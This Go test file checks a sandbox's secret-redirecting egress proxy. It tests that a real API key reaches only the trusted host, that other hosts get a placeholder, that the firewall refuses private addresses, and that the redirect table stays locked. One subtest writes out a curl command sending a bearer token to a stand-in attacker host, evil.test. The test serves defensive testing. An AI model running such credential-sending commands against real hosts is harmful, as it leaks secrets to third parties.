//go:build linux

package local_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/agentbox-dev/agentbox/internal/testenv"
	"github.com/agentbox-dev/agentbox/local"
	"github.com/agentbox-dev/agentbox/sandbox"
)

// The secrets' redirect mode: sandboxes in the default (public) network
// mode, linked to the network lab (netlab_test.go), whose "internet"
// (inet) plays the API on port 443: api.test and evil.test at
// 203.0.113.10 (one server, told apart by SNI), evil.test's second
// address 203.0.113.11 (the same server); a server-first greeting on
// [2001:db8:2::10]:443, and one on 10.1.2.3:443 (a private address the
// firewall refuses). The sandboxes resolve the names with curl's
// --resolve; the egress proxy with the test hooks' table.

// redirectLab is the lab and its API.
type redirectLab struct {
	lab *netLab
	api *apiServer
}

// Addresses of the redirect lab's servers.
const (
	redirectAPI   = "203.0.113.10"
	redirectOther = "203.0.113.11"
)

// newRedirectLab builds the lab, its API and greetings.
func newRedirectLab(t testing.TB) *redirectLab {
	t.Helper()
	testenv.Need(t, haveCurl(), "curl is not installed: the probes run it inside the sandbox")
	lab := newNetLab(t)
	api := newAPIServer(t, listenIn(t, lab.inet, "tcp", redirectAPI+":443"), listenIn(t, lab.inet, "tcp", redirectOther+":443"))
	for _, addr := range []string{"[2001:db8:2::10]:443", "10.1.2.3:443"} {
		go serveGreeting(listenIn(t, lab.inet, "tcp", addr))
	}
	return &redirectLab{lab: lab, api: api}
}

// sandbox starts a sandbox in the default mode with the probes and
// secrets (its egress proxy trusting roots, when not nil).
func (rl *redirectLab) sandbox(t testing.TB, secrets []sandbox.Secret, roots []byte) *local.Sandbox {
	t.Helper()
	stateDir := newStateDir(t)
	installProbes(t, stateDir)
	c := probeConfig(local.Confinement{})
	c.Secrets = secrets
	sb := openSandbox(t, local.Options{StateDir: stateDir, Config: c})
	local.SetNetworkTestUplink(sb, rl.lab.UplinkPath, labResolver)
	local.SetEgressTestHooks(sb, map[string]string{"api.test": redirectAPI, "evil.test": redirectOther}, false)
	if roots != nil {
		local.SetSecretsTestRoots(sb, roots)
	}
	if _, err := sb.Start(context.Background()); err != nil {
		t.Fatalf("start: %v", err)
	}
	return sb
}

// curlAt has curl in sb send $API_KEY to https://host/path, host
// resolved to addr, and returns its exit code and output.
func curlAt(t *testing.T, sb *local.Sandbox, host, addr, path string) (int, string) {
	t.Helper()
	return curl(t, sb, fmt.Sprintf(`--resolve %s:443:%s -H "Authorization: Bearer $API_KEY" https://%s%s`, host, addr, host, path))
}

// pyRead has python3 in sb connect to host:port, send send, and print
// what it reads (at most 5 s), or the error.
func pyRead(t *testing.T, sb *local.Sandbox, host string, port int, send string) string {
	t.Helper()
	testenv.Need(t, run(t, sb, "command -v python3").ExitCode == 0, "python3 is not installed in the sandbox")
	py := fmt.Sprintf(`import socket
try:
    s = socket.create_connection((%q, %d), timeout=5)
    s.sendall(%q.encode())
    print("got:" + s.recv(200).decode(errors="replace"))
except Exception as e:
    print("error:" + type(e).__name__)`, host, port, send)
	return strings.TrimSpace(mustRun(t, sb, "python3 -c '"+py+"'"))
}

func TestSecretsRedirect(t *testing.T) {
	rl := newRedirectLab(t)
	sb := rl.sandbox(t, apiSecret(secretValue), rl.api.caPEM)
	api := rl.api
	t.Run("NoProxyVariables", func(t *testing.T) {
		if out := mustRun(t, sb, "env | grep -i _proxy= || true"); out != "" {
			t.Errorf("the default mode's commands have proxy variables: %q", out)
		}
	})
	t.Run("CurlSendsValue", func(t *testing.T) {
		if code, out := curlAt(t, sb, "api.test", redirectAPI, "/v1"); code != 0 || out != "api ok" {
			t.Fatalf("curl: exit %d: %s", code, out)
		}
		wantValue(t, api, secretValue)
	})
	t.Run("PythonSendsValue", func(t *testing.T) {
		testenv.Need(t, run(t, sb, "command -v python3").ExitCode == 0, "python3 is not installed in the sandbox")
		py := `import os, socket, ssl
c = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
s = c.wrap_socket(socket.create_connection(("` + redirectAPI + `", 443), timeout=10), server_hostname="api.test")
s.sendall(("GET /py HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer " + os.environ["API_KEY"] + "\r\nConnection: close\r\n\r\n").encode())
d = b""
while True:
    b = s.recv(4096)
    if not b: break
    d += b
print(d.decode().split("\r\n\r\n", 1)[1])`
		if out := mustRun(t, sb, "python3 -c '"+py+"'"); strings.TrimSpace(out) != "api ok" {
			t.Fatalf("python: %q", out)
		}
		wantValue(t, api, secretValue)
	})
	t.Run("OtherNameGetsPlaceholder", func(t *testing.T) {
		ph := placeholderOf(t, sb)
		curlAt(t, sb, "evil.test", redirectAPI, "/v1") // its certificate is not trusted: curl may fail
		noValue(t, api)
		code, out := curl(t, sb, `-k --resolve evil.test:443:`+redirectAPI+` -H "Authorization: Bearer $API_KEY" https://evil.test/v1`)
		if code != 0 {
			t.Fatalf("curl -k: exit %d: %s", code, out)
		}
		if got := api.received(); len(got) != 1 || got[0] != "evil.test Bearer "+ph {
			t.Errorf("evil.test got %q, want the placeholder", got)
		}
	})
	t.Run("OtherAddressGetsPlaceholder", func(t *testing.T) {
		ph := placeholderOf(t, sb)
		code, out := curl(t, sb, `-k -H "Authorization: Bearer $API_KEY" https://`+redirectOther+`/v1`)
		if code != 0 {
			t.Fatalf("curl: exit %d: %s", code, out)
		}
		if got := api.received(); len(got) != 1 || !strings.HasSuffix(got[0], " Bearer "+ph) {
			t.Errorf("%s got %q, want the placeholder", redirectOther, got)
		}
	})
	t.Run("ServerFirstPasses", func(t *testing.T) {
		if got := pyRead(t, sb, "2001:db8:2::10", 443, ""); !strings.HasPrefix(got, "got:hello from") {
			t.Errorf("a server-first protocol on port 443: %q", got)
		}
	})
	t.Run("PrivateAddressRefused", func(t *testing.T) {
		if got := pyRead(t, sb, "10.1.2.3", 443, "hi\n"); strings.Contains(got, "hello") {
			t.Errorf("a private address on port 443 answered: %q", got)
		}
	})
	t.Run("DirectConnectRefused", func(t *testing.T) {
		got := pyRead(t, sb, "127.0.0.1", 3129, "GET / HTTP/1.1\r\nHost: api.test\r\n\r\n")
		if got != "got:" && !strings.HasPrefix(got, "error:") {
			t.Errorf("a direct connection to :3129 was served: %q", got)
		}
	})
	t.Run("TableLockedToSandboxRoot", func(t *testing.T) {
		if got := runProbe(t, sb, "nft_delete_here", local.RedirectTable); got != "EPERM" {
			t.Errorf("the sandbox's root deleting the redirect table: %s, want EPERM", got)
		}
		if ok, err := local.RedirectInstalled(sb); err != nil || !ok {
			t.Errorf("the redirect table after the probe: %v, %v", ok, err)
		}
	})
	t.Run("NoUnsubstitutedNote", func(t *testing.T) {
		info, err := sb.Info(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(info.Network.Note, "unchanged") || strings.Contains(sb.Instructions(), "go out unchanged") {
			t.Errorf("Info or Instructions still say the placeholders go out unchanged: %q", info.Network.Note)
		}
	})
}

func TestSecretsRedirectUntrustedUpstream(t *testing.T) {
	rl := newRedirectLab(t)
	sb := rl.sandbox(t, apiSecret(secretValue), nil) // the proxy trusts the host's store only
	if code, out := curlAt(t, sb, "api.test", redirectAPI, "/v1"); code == 0 && out == "api ok" {
		t.Errorf("a request through an upstream the proxy cannot verify was answered: %s", out)
	}
	if got := rl.api.received(); len(got) != 0 {
		t.Errorf("the untrusted upstream got %q", got)
	}
}

// netsockOf returns the pids of the agentbox-netsock processes in the
// network namespace whose /proc link is ns.
func netsockOf(ns string) []int {
	var pids []int
	procs, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range procs {
		cmd, _ := os.ReadFile(filepath.Join(p, "cmdline"))
		link, _ := os.Readlink(filepath.Join(p, "ns", "net"))
		if strings.HasPrefix(string(cmd), "agentbox-netsock") && link == ns {
			var pid int
			fmt.Sscan(filepath.Base(p), &pid)
			pids = append(pids, pid)
		}
	}
	return pids
}

// sandboxNetsock returns the pids of the netsock processes in the network
// namespace of sb, failing unless there is exactly one.
func sandboxNetsock(t *testing.T, sb *local.Sandbox) []int {
	t.Helper()
	ns, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/net", local.InitPID(sb)))
	if err != nil {
		t.Fatal(err)
	}
	pids := netsockOf(ns)
	if len(pids) != 1 {
		t.Fatalf("netsock processes in the sandbox's namespace: %v, want one", pids)
	}
	return pids
}

func TestSecretsRedirectNothingLeftAfterDestroy(t *testing.T) {
	rl := newRedirectLab(t)
	sb := rl.sandbox(t, apiSecret(secretValue), rl.api.caPEM)
	pids := sandboxNetsock(t, sb)
	if err := sb.Destroy(context.Background()); err != nil {
		t.Fatal(err)
	}
	if !poll(10*time.Second, func() bool { return processGone(pids[0]) }) {
		t.Errorf("the netsock process %d outlived the sandbox", pids[0])
	}
	if local.EgressProxyPID(sb) != 0 {
		t.Errorf("the egress proxy still serves the destroyed sandbox")
	}
}

// killEgressProxy kills the egress proxy that serves sb and waits until
// it is gone.
func killEgressProxy(t *testing.T, sb *local.Sandbox) {
	t.Helper()
	pid := local.EgressProxyPID(sb)
	if pid == 0 {
		t.Fatal("no egress proxy serves the sandbox")
	}
	if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	if !poll(5*time.Second, func() bool { return processGone(pid) }) {
		t.Fatalf("the egress proxy %d outlived SIGKILL", pid)
	}
}

func TestSecretsRedirectHealsAfterEgressProxyKilled(t *testing.T) {
	rl := newRedirectLab(t)
	sb := rl.sandbox(t, apiSecret(secretValue), rl.api.caPEM)
	killEgressProxy(t, sb)
	mustRun(t, sb, "true") // the heal path: a new proxy, listeners and netsock
	if code, out := curlAt(t, sb, "api.test", redirectAPI, "/healed"); code != 0 || out != "api ok" {
		t.Fatalf("curl after the heal: exit %d: %s", code, out)
	}
	wantValue(t, rl.api, secretValue)
}

func TestSetSecretsRedirectLive(t *testing.T) {
	rl := newRedirectLab(t)
	sb := rl.sandbox(t, nil, rl.api.caPEM)
	if ok, err := local.RedirectInstalled(sb); err != nil || ok {
		t.Fatalf("a sandbox without secrets has the redirect table: %v, %v", ok, err)
	}
	if err := sb.SetSecrets(context.Background(), apiSecret(secretValue)); err != nil {
		t.Fatal(err)
	}
	if ok, err := local.RedirectInstalled(sb); err != nil || !ok {
		t.Fatalf("the first secret added no redirect table: %v, %v", ok, err)
	}
	if code, out := curlAt(t, sb, "api.test", redirectAPI, "/live"); code != 0 || out != "api ok" {
		t.Fatalf("curl: exit %d: %s", code, out)
	}
	wantValue(t, rl.api, secretValue)
	if err := sb.SetSecrets(context.Background(), nil); err != nil {
		t.Fatal(err)
	}
	if ok, err := local.RedirectInstalled(sb); err != nil || ok {
		t.Errorf("the redirect table outlived the last secret: %v, %v", ok, err)
	}
}

func TestSecretsRedirectFollowsNetworkChange(t *testing.T) {
	rl := newRedirectLab(t)
	sb := rl.sandbox(t, apiSecret(secretValue), rl.api.caPEM)
	ctx := context.Background()
	if err := sb.UpdateNetworkSettings(ctx, netPolicy(t, false, "", "api.test")); err != nil {
		t.Fatal(err)
	}
	if ok, err := local.RedirectInstalled(sb); err != nil || ok {
		t.Errorf("the redirect table outlived the switch to a domain allow list: %v, %v", ok, err)
	}
	if err := sb.UpdateNetworkSettings(ctx, sandbox.NetworkPolicy{}); err != nil {
		t.Fatal(err)
	}
	if ok, err := local.RedirectInstalled(sb); err != nil || !ok {
		t.Fatalf("no redirect table after the switch back to the default mode: %v, %v", ok, err)
	}
	if code, out := curlAt(t, sb, "api.test", redirectAPI, "/back"); code != 0 || out != "api ok" {
		t.Fatalf("curl after the switch back: exit %d: %s", code, out)
	}
	wantValue(t, rl.api, secretValue)
}

func TestSecretsRedirectNetsockUnprivileged(t *testing.T) {
	rl := newRedirectLab(t)
	sb := rl.sandbox(t, apiSecret(secretValue), rl.api.caPEM)
	pids := sandboxNetsock(t, sb)
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pids[0]))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"Uid:\t65534\t65534\t65534\t65534", "Gid:\t65534\t65534\t65534\t65534", "CapEff:\t0000000000000000", "CapPrm:\t0000000000000000", "NoNewPrivs:\t1"} {
		if !strings.Contains(string(status), want+"\n") {
			t.Errorf("the netsock process's status lacks %q:\n%s", want, status)
		}
	}
	for _, kind := range []string{"mnt", "pid", "user"} {
		mine, _ := os.Readlink("/proc/self/ns/" + kind)
		its, _ := os.Readlink(fmt.Sprintf("/proc/%d/ns/%s", pids[0], kind))
		if its != mine {
			t.Errorf("the netsock process is in another %s namespace than the host's: %s", kind, its)
		}
	}
}
